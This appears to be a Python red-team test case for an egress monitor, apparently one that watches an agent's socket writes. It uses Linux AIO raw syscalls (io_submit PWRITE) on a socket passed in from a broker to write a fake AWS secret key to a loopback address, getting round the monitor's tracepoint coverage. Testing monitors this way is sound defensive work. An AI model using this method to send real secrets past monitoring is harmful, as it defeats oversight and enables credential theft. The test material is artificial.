"""Round 5: a socket connected OUTSIDE the tree is passed in and written with Linux AIO (io_submit).

The docs list, for tracepoint mode, the calls that write into an inet socket
(write, writev, sendfile, splice, vmsplice, io_uring) and admit io_uring; the
older asynchronous I/O interface (io_setup/io_submit, IOCB_CMD_PWRITE) also
writes into a socket without any of them.  The connect is the broker's, not
the agent's.
"""

from __future__ import annotations

import ctypes
import os
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 5
EXPECT = ("L4",)
NR_IO_SETUP, NR_IO_DESTROY, NR_IO_GETEVENTS, NR_IO_SUBMIT = 206, 207, 208, 209
IOCB_CMD_PWRITE = 1


class _Iocb(ctypes.Structure):
    # linux/aio_abi.h, little-endian x86_64
    _fields_ = [
        ("aio_data", ctypes.c_uint64),
        ("aio_key", ctypes.c_uint32),
        ("aio_rw_flags", ctypes.c_uint32),
        ("aio_lio_opcode", ctypes.c_uint16),
        ("aio_reqprio", ctypes.c_int16),
        ("aio_fildes", ctypes.c_uint32),
        ("aio_buf", ctypes.c_uint64),
        ("aio_nbytes", ctypes.c_uint64),
        ("aio_offset", ctypes.c_int64),
        ("aio_reserved2", ctypes.c_uint64),
        ("aio_flags", ctypes.c_uint32),
        ("aio_resfd", ctypes.c_uint32),
    ]


class _IoEvent(ctypes.Structure):
    _fields_ = [
        ("data", ctypes.c_uint64),
        ("obj", ctypes.c_uint64),
        ("res", ctypes.c_int64),
        ("res2", ctypes.c_int64),
    ]


def run(args: dict[str, Any]) -> None:
    ip, port = rt.loopback(args["dest"]["ip"]), int(args["dest"]["port"])
    fd = rt.passed_socket(str(args["broker_sock"]), ip, port)
    lc = rt.libc()
    c = ctypes.c_long
    ctx = ctypes.c_ulong(0)
    if lc.syscall(c(NR_IO_SETUP), c(4), ctypes.byref(ctx)) < 0:
        rt.report(rt.now(), False, f"io_setup: errno {ctypes.get_errno()}")
        return
    payload = ctypes.create_string_buffer(b"AWS_SECRET_ACCESS_KEY=h7redteam-round5-aio\n" * 40)
    cb = _Iocb()
    cb.aio_lio_opcode = IOCB_CMD_PWRITE
    cb.aio_fildes = fd
    cb.aio_buf = ctypes.addressof(payload)
    cb.aio_nbytes = len(payload.raw) - 1
    cbs = (ctypes.POINTER(_Iocb) * 1)(ctypes.pointer(cb))
    ev = (_IoEvent * 1)()
    try:
        t = rt.now()
        sub = lc.syscall(c(NR_IO_SUBMIT), ctx, c(1), cbs)
        got = lc.syscall(c(NR_IO_GETEVENTS), ctx, c(1), c(1), ev, None) if sub == 1 else -1
        res = int(ev[0].res) if got == 1 else None
    finally:
        lc.syscall(c(NR_IO_DESTROY), ctx)
        os.close(fd)
    rt.report(
        t, res == len(payload.raw) - 1, f"io_submit PWRITE on a passed socket to {ip}:{port}: {res} bytes"
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
